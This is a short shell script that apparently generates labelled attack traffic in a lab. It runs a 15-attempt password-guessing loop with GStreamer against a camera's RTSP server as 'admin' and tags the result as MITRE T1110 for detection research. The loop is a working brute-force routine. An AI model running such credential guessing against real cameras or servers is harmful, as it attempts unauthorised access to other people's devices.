# Password guessing against the ICU camera's RTSP server (Basic authentication): 15 GStreamer
# rtspsrc clients as `admin`, each with another wrong password. Each sends OPTIONS, DESCRIBE
# (401 with the Basic challenge), DESCRIBE with the credentials (401 again) and gives up.
DEFAULT_DURATION=30
attack_rtsp_brute_force() {
  command -v gst-launch-1.0 > /dev/null || { echo "gst-launch-1.0 missing" >&2; return 1; }
  local t0 t1 i
  t0=$(now)
  for i in $(seq 1 15); do
    run_in attacker rtsp-guess 5 gst-launch-1.0 -q rtspsrc \
      location="rtsp://admin:cam$i@10.10.6.61:554/test" protocols=tcp timeout=3000000 ! fakesink
  done
  t1=$(now)
  label brute_force T1110 attacker camera "$t0" "$t1" \
    "15 RTSP DESCRIBEs as admin with wrong passwords on the camera (rtspsrc), each refused with 401"
}
scenario_run() {
  start_ward "$1"
  sleep 5
  attack_rtsp_brute_force
}
